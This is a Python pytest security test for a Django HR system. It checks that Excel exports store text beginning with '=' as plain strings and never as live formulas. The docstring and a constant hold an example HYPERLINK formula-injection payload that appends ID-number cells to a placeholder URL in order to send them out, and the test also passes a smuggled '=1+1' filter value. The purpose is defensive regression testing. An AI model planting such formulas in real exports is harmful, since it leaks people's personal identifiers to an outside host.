"""Security review (issue 13): text starting with “=” must never become a live Excel formula in an
export — a unit HR officer's 职务 ``=HYPERLINK("http://…?d="&B3&B4,"查看详情")`` would otherwise send
other people's ID numbers away from an officer's Excel on one click."""

from __future__ import annotations

import io

import openpyxl
import pytest
from conftest import PA
from django.test import Client

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?d="&B3&B4,"查看详情")'


def test_exported_text_is_text_never_a_formula(personas, api):
    body = {
        "name": "王一",
        "gender": PA["性别"],
        "birth_date": PA["出生日期"].isoformat(),
        "category": "公务员",
        "unit": "A",
        "staffing_type": "行政编制",
        "status": "在编",
        "post": FORMULA,
        "reason": "职务变更",
    }
    assert api(personas["hr_a"], "PUT", f"/people/{PA['身份证号']}", json={"reason": "测试", **body}).status_code == 200
    client = Client()
    client.force_login(personas["officer"].user, backend="django.contrib.auth.backends.ModelBackend")
    response = client.get("/people/?export=people")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    posts = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == FORMULA]
    assert posts and all(cell.data_type == "s" for cell in posts)
    assert all(cell.data_type != "f" for row in book.worksheets[0].iter_rows() for cell in row)
    # Filter text echoed into the conditions sheet stays text too.
    filtered = openpyxl.load_workbook(io.BytesIO(client.get("/people/?q==1%2B1&export=people").content))
    echoed = [cell for row in filtered.worksheets[1].iter_rows() for cell in row if cell.value == "=1+1"]
    assert echoed and all(cell.data_type == "s" for cell in echoed)
